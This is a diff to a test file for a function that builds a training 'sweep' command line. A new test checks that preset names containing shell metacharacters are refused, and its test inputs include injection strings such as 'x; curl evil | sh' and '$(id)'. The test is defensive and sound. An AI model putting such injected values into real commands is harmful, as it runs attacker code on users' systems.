@@ -138,6 +138,11 @@ describe('the command of a sweep', () => {
   it('stands in for a network of the user’s own', () => {
     const choice = presetChoice(SLOW_FAST_FURIOUS);
     const network = { ...choice.network, hidden: [32] };
-    assert.match(sweepCommand({ ...choice, preset: null, network }), / --network FILE\.json /);
+    assert.match(sweepCommand({ ...choice, preset: null, network })!, / --network FILE\.json /);
+  });
+
+  it('is left out where a shell would run a part of it, which a sweep on disk may have been written for', () => {
+    for (const preset of ['x; curl evil | sh', '$(id)', '`id`', "'", 'a b', 'a\nb', 'a&b'])
+      assert.equal(sweepCommand({ ...presetChoice(SLOW_FAST_FURIOUS), preset }), null);
   });
 });
